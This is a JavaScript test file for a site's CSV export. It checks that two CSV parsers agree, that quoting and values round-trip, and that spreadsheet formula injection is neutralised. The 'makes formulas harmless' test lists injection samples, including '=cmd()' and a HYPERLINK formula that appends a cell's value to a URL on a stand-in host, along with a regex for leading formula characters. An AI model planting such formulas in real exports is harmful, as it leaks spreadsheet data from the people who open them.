// csv.test.mjs - lists as .csv, read back by programs that know nothing of us:
// Python's csv module and npm's csv-parse. What they read is held against the
// JSON of the same query.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { startServer, writeSite } from './server.mjs';
import { ask, getJson, getProblem } from './support.mjs';

const texts = {
  comma: 'a, b',
  quote: 'She said "no".',
  lines: 'one\ntwo\r\nthree',
  blanks: ' around ',
  umlaut: 'Größe 漢字 🙂',
  semicolon: 'a;b',
  tab: 'a\tb',
  empty: '',
  apostrophe: "'quoted'",
  backslash: 'a\\b\\"c',
};

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\tx',
  '\rx',
  '\nx',
  ' =1+1',
  '=HYPERLINK("https://example.com?x="&A1,"open")',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
];

const post = (fields, body = 'Text.') =>
  `---\n${JSON.stringify(fields)}\n---\n${body}\n`;

let site;
let server;

before(async () => {
  site = await writeSite({
    'content/posts/a.md': post(
      {
        title: 'A',
        date: '2026-01-03',
        author: 'Ana',
        tags: ['go', 'c'],
        ...texts,
        number: -5,
        real: 1.5,
        flag: true,
        nothing: null,
        words: ['plain', 'with, comma', 'with "quote"', ' blank', ''],
        one: ['a,b'],
        numbers: [-1, 2],
        images: [{ src: '/a.png', alt: 'A, a' }, { src: '/b.png' }],
        nested: { deep: { x: 1 } },
      },
      '# Heading\n\nSome text, *here*.',
    ),
    'content/posts/b.md': post({
      title: 'B',
      date: '2026-01-02',
      authors: ['Ana', 'Bo'],
      tags: ['go'],
      formulas,
    }),
    ...Object.fromEntries(
      formulas.map((formula, i) => [
        `content/posts/f${i}.md`,
        post({ title: `F${i}`, date: '2020-01-01', formula, i }),
      ]),
    ),
    'content/pages/about.md': post({ title: 'About', '=cmd()': 1 }),
    'content/data/x.json': '{"key": "value"}',
  });
  server = await startServer(site.dir);
});

after(async () => {
  await server?.stop();
  await site?.remove();
});

const program = `
import csv, io, json, sys
text = sys.stdin.buffer.read().decode('utf-8')
reader = csv.reader(io.StringIO(text, newline=''), strict=True)
json.dump(list(reader), sys.stdout)`;

/** The records, as two readers agree on them. */
async function read(target) {
  const { status, headers, body } = await ask(server, target);
  assert.equal(status, 200, body);
  assert.equal(
    headers['content-type'],
    'text/csv; charset=utf-8; header=present',
  );
  assert.ok(body.endsWith('\r\n'), target);
  const records = JSON.parse(
    execFileSync('python3', ['-c', program], {
      input: body,
      encoding: 'utf8',
      env: { ...process.env, PYTHONUTF8: '1' },
    }),
  );
  assert.deepEqual(parse(body), records, target);
  assert.equal(new Set(records.map((r) => r.length)).size, 1, target);
  return records;
}

/** The same as objects by the names of the columns. */
async function readObjects(target) {
  const [head, ...rows] = await read(target);
  assert.equal(new Set(head).size, head.length);
  return rows.map((row) =>
    Object.fromEntries(head.map((name, i) => [name, row[i]])),
  );
}

describe('a list with .csv', () => {
  test('has the names in fields as columns, in their order', async () => {
    const [head, row] = await read(
      '/posts.csv?fields=title,slug,author.name,tags,tags.name,title&limit=1',
    );
    assert.deepEqual(head, ['title', 'slug', 'author.name', 'tags', 'tags.name']);
    assert.deepEqual(row, ['A', 'a', 'Ana', 'go,c', 'go,c']);
  });

  test('reads back whatever a text holds', async () => {
    const names = Object.keys(texts);
    const [row] = await readObjects(
      `/posts.csv?fields=${names.join(',')}&limit=1`,
    );
    assert.deepEqual(row, texts);
  });

  test('tells an empty text from none', async () => {
    const { body } = await ask(
      server,
      '/posts.csv?fields=slug,empty,nothing&limit=1',
    );
    assert.equal(body, 'slug,empty,nothing\r\na,"",\r\n');
  });

  test('has numbers and flags as JSON writes them', async () => {
    const [row] = await readObjects(
      '/posts.csv?fields=number,real,flag,nothing,word_count,nobody&limit=1',
    );
    assert.deepEqual(row, {
      number: '-5',
      real: '1.5',
      flag: 'true',
      nothing: '',
      word_count: '4',
      nobody: '',
    });
  });

  test('has lists as the operator in takes them', async () => {
    const [row] = await readObjects(
      '/posts.csv?fields=words,one,numbers,words.1,images.src&limit=1',
    );
    assert.deepEqual(row, {
      words: 'plain,"with, comma","with \\"quote\\""," blank",""',
      one: '"a,b"',
      numbers: "'-1,2",
      'words.1': 'with, comma',
      'images.src': '/a.png,/b.png',
    });
    for (const [name, value] of [
      ['words', row.words],
      ['one', row.one],
    ]) {
      const query = new URLSearchParams({ [`${name}:all`]: value });
      const { data } = await getJson(server, `/posts?${query}&fields=slug`);
      assert.deepEqual(data, [{ slug: 'a' }], name);
    }
  });

  test('has other values as JSON', async () => {
    const [row] = await readObjects(
      '/posts.csv?fields=images,nested,nested.deep.x,toc,html,text&limit=1',
    );
    const { data } = await getJson(server, '/posts/a');
    assert.deepEqual(JSON.parse(row.images), data.images);
    assert.deepEqual(JSON.parse(row.nested), data.nested);
    assert.equal(row['nested.deep.x'], '1');
    assert.deepEqual(JSON.parse(row.toc), data.toc);
    assert.equal(row.html, data.html);
    assert.equal(row.text, 'Heading\n\nSome text, here.');
  });

  test('has a slug for people and terms, an id for other documents', async () => {
    const rows = await readObjects(
      '/posts.csv?fields=author,authors,tags,next,previous&limit=2',
    );
    assert.deepEqual(rows, [
      { author: 'ana', authors: 'ana', tags: 'go,c', next: '', previous: 'posts/b' },
      {
        author: 'ana',
        authors: 'ana,bo',
        tags: 'go',
        next: 'posts/a',
        previous: 'posts/f0',
      },
    ]);
  });

  test('makes formulas harmless', async () => {
    const rows = await readObjects(
      '/posts.csv?fields=formula,i&formula:exists=true&limit=100',
    );
    assert.equal(rows.length, formulas.length);
    for (const { formula, i } of rows)
      assert.equal(formula, `'${formulas[i]}`, JSON.stringify(formulas[i]));
    const [head] = await read('/pages.csv');
    assert.ok(head.includes("'=cmd()"), head.join());
    for (const target of ['/posts.csv', '/_all.csv', '/pages.csv']) {
      for (const cell of (await read(target)).flat()) {
        if (!/^-?[0-9.]+$/.test(cell))
          assert.doesNotMatch(cell, /^ *[=+\-@\t\r\n＝＋－＠]/, target);
      }
    }
  });

  test('has all that a list shows without fields', async () => {
    for (const list of ['/posts', '/authors', '/tags', '/pages', '/data', '/_all']) {
      const { data } = await getJson(server, `${list}?limit=100`);
      const [head, ...rows] = await read(`${list}.csv`);
      assert.equal(rows.length, data.length, list);
      const keys = new Set(data.flatMap((document) => Object.keys(document)));
      assert.deepEqual(
        head.map((name) => name.replace(/^'/, '')).sort(),
        [...keys].sort(),
        list,
      );
      const at = head.indexOf('id');
      assert.deepEqual(
        rows.map((row) => row[at]),
        data.map(({ id }) => id),
      );
    }
  });

  test('leaves out what fields leaves out, and adds what include adds', async () => {
    const [whole] = await read('/posts.csv');
    const [less] = await read('/posts.csv?fields=-title,-words');
    assert.deepEqual(
      less,
      whole.filter((name) => !['title', 'words'].includes(name)),
    );
    const [more] = await read('/posts.csv?include=text,related');
    assert.deepEqual(more, [...whole, 'text', 'related']);
  });

  test('takes filters, orders and limits as .ndjson does', async () => {
    const rows = await readObjects(
      '/posts.csv?tags=go&sort=date&limit=1&fields=slug',
    );
    assert.deepEqual(rows, [{ slug: 'b' }]);
    assert.equal((await read('/posts.csv?limit=0')).length, 1);
    assert.equal((await read('/tags/go/posts.csv')).length, 3);
    assert.equal((await read('/recent.csv?limit=2')).length, 3);
    for (const query of ['page=1', 'facets=tags', 'tagz=go', 'pretty'])
      await getProblem(server, `/posts.csv?${query}`, 400);
  });

  test('writes a single empty cell so that it is a record', async () => {
    const { body } = await ask(server, '/posts.csv?fields=nothing&limit=1');
    assert.equal(body, 'nothing\r\n""\r\n');
  });

  test('has a validator that knows the order of columns', async () => {
    const first = await ask(server, '/posts.csv?fields=slug,title');
    const second = await ask(server, '/posts.csv?fields=title,slug');
    assert.notEqual(first.headers.etag, second.headers.etag);
    const again = await ask(server, '/posts.csv?fields=slug,title', {
      headers: { 'If-None-Match': first.headers.etag },
    });
    assert.equal(again.status, 304);
    const head = await ask(server, '/posts.csv', { method: 'HEAD' });
    assert.equal(head.body, '');
    assert.equal(head.headers['x-total-count'], String(formulas.length + 2));
  });
});
